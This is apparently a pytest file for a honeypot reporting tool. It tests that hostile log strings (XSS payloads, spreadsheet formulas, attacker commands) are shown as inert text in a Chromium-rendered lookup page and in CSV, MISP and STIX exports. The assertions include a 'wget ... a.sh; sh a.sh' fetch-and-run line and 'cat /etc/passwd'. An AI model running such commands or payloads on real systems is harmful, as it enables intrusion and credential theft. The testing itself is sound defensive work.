"""The report's host lookup (typed in headless Chromium) and hostile log strings through ingest → export → report → lookup."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from darkstack.export import export
from darkstack.export.activity import ACTIVITY
from darkstack.export.hosts import clean_text
from darkstack.report.build import build_report
from darkstack.report.lookup import ACTIVITY_SHOWN, json_for_html
from darkstack.schema import int_to_ip
from darkstack.workspace import Workspace
from export_fixtures import DAYS, DOWNLOAD, EXTRA, FORMULA, HOSTILE, LONG, MIRAI_LIKE, QUOTES, XSS, classified_world
from report_chromium import render_in_chromium

DAY = DAYS[-1]
TEMPLATE = Path(__file__).resolve().parents[1] / "src" / "darkstack" / "report" / "templates" / "report.html.j2"

# Types each address into the lookup box, one after the other, and records what the page shows. Any
# dialog or element the data could inject is counted; the payloads call alert() or load an <img>/<svg>.
PROBE = """<script>
window.alert = window.confirm = window.prompt = function () { document.body.dataset.dialogs = String(Number(document.body.dataset.dialogs || 0) + 1); };
window.addEventListener("load", function () {
  var input = document.getElementById("lookup-input"), result = document.getElementById("lookup-result"), seen = [];
  ADDRESSES.forEach(function (address) {
    input.value = address; input.dispatchEvent(new Event("input"));
    seen.push({found: result.dataset.found, text: result.textContent, dd: Array.prototype.map.call(result.querySelectorAll("dd"), function (d) { return d.textContent; }),
               cells: Array.prototype.map.call(result.querySelectorAll("td"), function (d) { return d.textContent; }),
               elements: result.querySelectorAll("img, svg, script, iframe, a, [onerror], [onload]").length});
  });
  var first = result.querySelector("button.neighbour");
  if (first) { var target = first.textContent; first.click(); seen.push({clicked: target, value: input.value, found: result.dataset.found}); }
  document.body.dataset.probe = JSON.stringify({seen: seen, injected: document.querySelectorAll("img[src=x], svg").length});
});
</script></body>"""


@pytest.fixture(scope="module")
def reported(tmp_path_factory):
    """The classified world of export_fixtures (hostile log strings included), exported and reported."""
    tmp = tmp_path_factory.mktemp("lookup")
    ws = Workspace(tmp / "ws")
    ips, labels = classified_world(ws, tmp)
    paths = export(ws, "H", DAY)
    return ws, ips, labels, paths, build_report(ws, run_id="lookup")


def _activity_cells(row) -> list[str]:
    """The lookup's honeypot table of an exported host, as the cells it should show: (what, value, count) rows."""
    return [cell for column, what in ACTIVITY_SHOWN.items() for p in row[column] for cell in (what, p["value"], str(p["count"]))]


def _typed(index: Path, tmp_path: Path, addresses: list[str]) -> tuple[dict, str]:
    probe = index.with_name("probe.html")
    probe.write_text(index.read_text().replace("</body>", PROBE.replace("ADDRESSES", json.dumps(addresses))))
    dom, console = render_in_chromium(probe, tmp_path)
    assert console == []
    return json.loads(html.unescape(re.search(r'data-probe="([^"]*)"', dom).group(1))), dom


def test_lookup_data_are_inert_json_in_the_page(reported):
    page = reported[4].read_text()
    block = re.search(r'<script type="application/json" id="lookup-data">(.*?)</script>', page, re.S).group(1)
    assert "<" not in block and ">" not in block and "&" not in block
    hosts = json.loads(block)["hosts"]
    table = pq.read_table(reported[3][0]).to_pandas()
    assert set(hosts) == set(table["address"])
    assert str(json_for_html({"x": "</script><!--&"})) == '{"x":"\\u003c/script\\u003e\\u003c!--\\u0026"}'
    assert 'href="#lookup"' in page


def test_page_code_never_writes_html_from_strings():
    code = TEMPLATE.read_text()
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function", code)


@pytest.mark.requires("chromium")
def test_typing_an_address_shows_its_class_probabilities_neighbours_contributions_and_cluster(reported, tmp_path):
    ws, ips, labels, paths, index = reported
    table = pq.read_table(paths[0]).to_pandas().set_index("address")
    bot = str(int_to_ip(ips[labels == "unknown"][-1:])[0])  # acts as a Mirai bot
    grouped = str(int_to_ip(ips[labels == "unknown"][1:2])[0])
    probe, _ = _typed(index, tmp_path, [bot, grouped, "192.0.2.99", "", bot])
    shown, clustered, absent, empty, again, clicked = probe["seen"]
    assert shown["found"] == "1" and f"Scenario H, {DAY}: Mirai-like ({table.at[bot, 'probability']:.2f})" in shown["text"]
    facts = dict(zip(["class", "probability", "runner-up", "decided most by", "cluster", "first seen", "last seen", "services", "events", "address"], shown["dd"]))
    assert facts["class"] == "Mirai-like" and facts["probability"] == f"{table.at[bot, 'probability']:.3f}"
    assert facts["decided most by"].startswith(f"honeypot:{table.at[bot, 'top_base']} (")
    assert facts["first seen"] == table.at[bot, "first_seen"] and facts["services"] == "ssh" and facts["address"] == "as captured"
    contributions = shown["cells"][: 2 * 3]
    assert contributions[0::2] == ["honeypot:ds", "honeypot:idarkvec", "honeypot:igcngru"]
    assert [float(c) for c in contributions[1::2]] == pytest.approx(table.loc[bot, ["contrib_honeypot:ds", "contrib_honeypot:idarkvec", "contrib_honeypot:igcngru"]].tolist(), abs=1e-3)
    neighbours = shown["cells"][6 : 6 + 27]
    assert shown["cells"][6 + 27 :] == _activity_cells(table.loc[bot])  # usernames, passwords, the downloaded URL
    assert [DOWNLOAD, "1"] in [shown["cells"][i + 1 : i + 3] for i in range(33, len(shown["cells"]), 3) if shown["cells"][i] == "download"]
    assert len(neighbours) == 3 * 3 * 3 and set(neighbours[2::3]) <= {"Mirai-like", "Unknown", "Censys", "Shodan"}
    assert "Mirai-like" in neighbours[2::3]
    assert "honeypot cluster 0, group G1" in clustered["dd"]
    assert absent["found"] == "0" and "No exported host 192.0.2.99" in absent["text"] and empty["text"] == ""
    assert again == shown
    assert clicked["value"] == clicked["clicked"] == neighbours[1] and clicked["found"] == ("1" if neighbours[1] in table.index else "0")


@pytest.mark.requires("chromium")
def test_a_host_with_a_ground_truth_label_shows_where_its_class_comes_from(reported, tmp_path):
    ws, ips, labels, paths, index = reported
    bot = str(int_to_ip(ips[labels == "mirai"][:1])[0])  # labelled by the Mirai rule
    probe, _ = _typed(index, tmp_path, [bot])
    (shown,) = probe["seen"]
    names = ["class", "probability", "runner-up", "decided most by", "cluster", "first seen", "last seen", "services", "events", "address", "class from"]
    facts = dict(zip(names, shown["dd"]))
    assert shown["found"] == "1" and facts["class"] == "Mirai-like" and facts["probability"] == "1.000"
    assert facts["runner-up"] == facts["decided most by"] == "n/a" and facts["class from"] == "ground truth, label:mirai-rule"
    table = pq.read_table(paths[0]).to_pandas().set_index("address")
    assert shown["cells"] == _activity_cells(table.loc[bot])  # no contributions nor neighbours: only what it did


@pytest.mark.requires("chromium")
def test_hostile_log_strings_are_shown_as_text_and_never_run(reported, tmp_path):
    ws, ips, labels, paths, index = reported
    hostile = [str(a) for a in int_to_ip(ips[labels == "unknown"][: len(HOSTILE)])]
    probe, dom = _typed(index, tmp_path, hostile)
    assert 'data-dialogs="' not in dom and probe["injected"] == 0
    for payload, seen in zip(HOSTILE, probe["seen"]):
        assert seen["found"] == "1" and seen["elements"] == 0
        facts = dict(zip(["class", "probability", "runner-up", "decided most by", "cluster", "first seen", "last seen", "services", "events"], seen["dd"]))
        shown = clean_text(payload)  # control characters as U+FFFD
        assert facts["services"] == shown.lower() and shown in facts["events"]  # Cowrie protocol / MHN protocol, Cowrie event id
    assert XSS in probe["seen"][0]["dd"][4]  # the discover group name
    table = pq.read_table(paths[0]).to_pandas().set_index("address")
    for payload, address, seen in zip(HOSTILE, hostile, probe["seen"]):
        cells = seen["cells"][6 + 27 :]
        assert cells == _activity_cells(table.loc[address])  # shown exactly as exported, as text
        shown = clean_text(payload)
        assert {"username", "password", "command"} <= {cells[i] for i in range(0, len(cells), 3) if cells[i + 1] == shown}
    assert "http://198.51.100.9/" + XSS in probe["seen"][0]["cells"]  # the download of host 0


@pytest.mark.requires("chromium")
def test_quotes_line_breaks_broken_text_and_long_commands_are_shown_literally(reported, tmp_path):
    ws, ips, labels, paths, index = reported
    hosts = [str(a) for a in int_to_ip(ips[labels == "unknown"][len(HOSTILE) : len(HOSTILE) + len(EXTRA)])]
    probe, dom = _typed(index, tmp_path, hosts)
    assert 'data-dialogs="' not in dom and probe["injected"] == 0
    table = pq.read_table(paths[0]).to_pandas().set_index("address")
    shown = [next(c[i + 1] for i in range(0, len(c), 3) if c[i] == "command") for c in (s["cells"][33:] for s in probe["seen"][: len(hosts)])]
    assert shown == [p["value"] for a in hosts for p in table.at[a, "commands"]]
    assert shown[0] == QUOTES and shown[1] == "wget http://198.51.100.9/a.sh\ufffd\ufffdsh a.sh\ufffd"
    assert shown[2].startswith("cat /etc/passwd\ufffd") and shown[3] == LONG[:200] + "…"
    page = index.read_text()
    assert "<img src=x" not in page and "<svg onload" not in page  # escaped everywhere in the static page too


def test_hostile_log_strings_leave_every_export_valid_and_formulas_neutralised(reported):
    import stix2

    files = {p.name: p.read_bytes().decode("utf-8", errors="strict") for p in reported[3] if p.suffix != ".parquet"}
    rows = list(csv.reader(io.StringIO(files["hosts.csv"])))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body)
    text_cells = [c for r in body for i, c in enumerate(r) if header[i] in ("services", "events", "group", *ACTIVITY)]
    assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # no cell a spreadsheet evaluates
    listed = {v for r in body for i, c in enumerate(r) if header[i] in ("usernames", "passwords", "commands") and c for v in json.loads(c)}
    assert {clean_text(p) for p in HOSTILE} | {QUOTES, LONG[:200] + "…"} <= listed  # each string whole inside its JSON array cell
    assert "'" + FORMULA.lower() in text_cells and "'" + FORMULA + "; cowrie.login.failed" + FORMULA in text_cells
    lines = [json.loads(line) for line in files["hosts.jsonl"].splitlines()]
    assert {line["services"] for line in lines} >= {clean_text(p).lower() for p in HOSTILE}  # JSON keeps the strings (controls replaced)
    assert not any(re.search(r"[\x00-\x1f\x7f]", c) for r in body for c in r)  # no terminal escape reaches a CSV cell
    assert {p["value"] for line in lines for p in line["commands"]} >= {clean_text(p) for p in HOSTILE}
    event = json.loads(files["misp.json"])["Event"]
    assert any(XSS in a["comment"] for a in event["Attribute"])
    assert {a["value"] for a in event["Attribute"] if a["category"] == "Payload installation"} >= {clean_text(p) for p in HOSTILE} | {QUOTES}
    objects = stix2.parse(files["stix.json"], allow_custom=False).objects
    assert any(XSS in o.description for o in objects if o.type == "indicator")
    notes = [o.content for o in objects if o.type == "note"]
    assert all(any(f"commands: {json.dumps(clean_text(p), ensure_ascii=False)} (1)" in n for n in notes) for p in HOSTILE)
